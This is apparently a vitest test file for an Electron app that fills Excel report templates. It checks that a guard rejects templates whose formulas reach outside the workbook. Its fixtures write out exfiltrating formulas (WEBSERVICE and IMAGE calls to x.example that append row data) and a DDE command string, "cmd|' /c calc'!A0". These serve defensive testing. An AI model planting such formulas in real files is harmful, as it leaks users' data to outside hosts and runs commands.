import ExcelJS from 'exceljs'
import { describe, expect, it } from 'vitest'
import { reachesOut } from '../../../electron/backend/exports/template-guard'
import { entriesOf, zip } from '../../fixtures/zip'
import { ok, testBackend } from '../helpers'

/**
 * Their form as in template-fill.test.ts, shortened: a header, two blank rows, and in the 核对 column the formula
 * given — the one that would be copied next to the ID numbers of every row we add.
 */
async function form(check: string): Promise<Buffer> {
  const wb = new ExcelJS.Workbook()
  const ws = wb.addWorksheet('附表3')
  ws.getRow(1).values = ['序号', '党组织全称', '组织类型', '隶属党组织', '核对']
  for (const r of [2, 3]) ws.getCell(r, 5).value = { formula: check.replaceAll('{r}', String(r)), result: '' }
  return Buffer.from(await wb.xlsx.writeBuffer())
}

/** The same form with one part's XML changed on the way (what exceljs cannot write: a defined name calling out, an external link). */
async function withPart(name: string, change: (xml: string) => string, extra: { name: string; data: Buffer }[] = []): Promise<Buffer> {
  const entries = entriesOf(await form('IF(B{r}="","","已填")'))
  return zip([...entries.map((e) => (e.name === name ? { ...e, data: Buffer.from(change(e.data.toString())) } : e)), ...extra])
}

const ORGS = { 序号: null, 党组织全称: 'name', 组织类型: 'type', 隶属党组织: 'parent', 核对: null }

describe('按上级模板填写：会向外发送数据的模板一律拒绝', () => {
  it('逐行公式调用 WEBSERVICE：检查模板时就拒绝，说出是哪个单元格、为什么、怎么办，也不填写', async () => {
    const backend = testBackend()
    await ok(backend, 'orgs.create', { name: '中共示范医院委员会', type: 'committee', parentId: null })
    const template = (await form('WEBSERVICE("http://x.example/?"&B{r}&C{r})')).toString('base64')
    const seen = await backend.call('exports.inspectTemplate', { source: 'organizations', fileName: '附表3.xlsx', contentBase64: template })
    expect(seen.ok).toBe(false)
    if (!seen.ok) {
      expect(seen.error.code).toBe('VALIDATION')
      expect(seen.error.message).toContain('“附表3”E2 的公式调用了 WEBSERVICE')
      expect(seen.error.message).toContain('党办通不填写这样的模板')
      expect(seen.error.message).toContain('删除这些公式')
    }
    const filled = await backend.call('exports.fillTemplate', { source: 'organizations', fileName: '附表3.xlsx', contentBase64: template, mapping: ORGS, scope: { organizationId: null, from: null, to: null } })
    expect(filled.ok).toBe(false)
    // nothing was remembered or logged for the refused template
    expect(backend.context.db.prepare('SELECT count(*) FROM template_mappings').pluck().get()).toBe(0)
  })

  it('外部链接、外部数据连接、名称定义里的外部调用同样拒绝', async () => {
    const backend = testBackend()
    const refusal = async (bytes: Buffer): Promise<string> => {
      const r = await backend.call('exports.inspectTemplate', { source: 'organizations', fileName: '附表3.xlsx', contentBase64: bytes.toString('base64') })
      return r.ok ? '' : r.error.message
    }
    expect(await refusal(await form("'\\\\server\\share\\[汇总.xlsx]Sheet1'!A{r}"))).toContain('引用了其他工作簿')
    expect(await refusal(await form('[1]Sheet1!B{r}'))).toContain('引用了其他工作簿')
    expect(await refusal(await form('_xlfn.IMAGE("http://x.example/p.png?"&B{r})'))).toContain('调用了 IMAGE')
    const named = await withPart('xl/workbook.xml', (xml) => xml.replace('</workbook>', '<definedNames><definedName name="取数">_xlfn.WEBSERVICE("http://x.example")</definedName></definedNames></workbook>'))
    expect(await refusal(named)).toContain('名称定义调用了 WEBSERVICE')
    const linked = await withPart('xl/workbook.xml', (xml) => xml, [{ name: 'xl/externalLinks/externalLink1.xml', data: Buffer.from('<externalLink/>') }])
    expect(await refusal(linked)).toContain('有指向其他工作簿的外部链接')
    const queried = await withPart('xl/workbook.xml', (xml) => xml, [{ name: 'xl/connections.xml', data: Buffer.from('<connections/>') }])
    expect(await refusal(queried)).toContain('有外部数据连接')
  })

  it('普通公式照常：引号里的文字、表格结构引用、其他工作表的引用都不算外部调用', async () => {
    for (const f of ['IF(B4="","","已填")', 'IF(B4="WEBSERVICE(","x","")', 'SUM(Table1[数量])+Sheet2!A1', "'附表 2'!A1&\"|\"", 'COUNTA(B4:B7)', 'HYPERLINKS_TOTAL+1']) {
      expect(reachesOut(f), f).toBeNull()
    }
    for (const f of ['WEBSERVICE("http://a")', '_xlfn.WEBSERVICE(A1)', 'hyperlink("http://a/"&B4)', 'FILTERXML(A1,"//a")', 'RTD("x.y",,"z")', '[2]Sheet1!A1', "'C:\\a\\[b.xlsx]S'!A1", "cmd|' /c calc'!A0", 'IMPORTDATA("http://a")']) {
      expect(reachesOut(f), f).not.toBeNull()
    }
    const backend = testBackend()
    const seen = await ok(backend, 'exports.inspectTemplate', { source: 'organizations', fileName: '附表3.xlsx', contentBase64: (await form('IF(B{r}="","","已填")')).toString('base64') })
    expect(seen.columns.map((c) => c.header)).toEqual(['序号', '党组织全称', '组织类型', '隶属党组织', '核对'])
  })
})
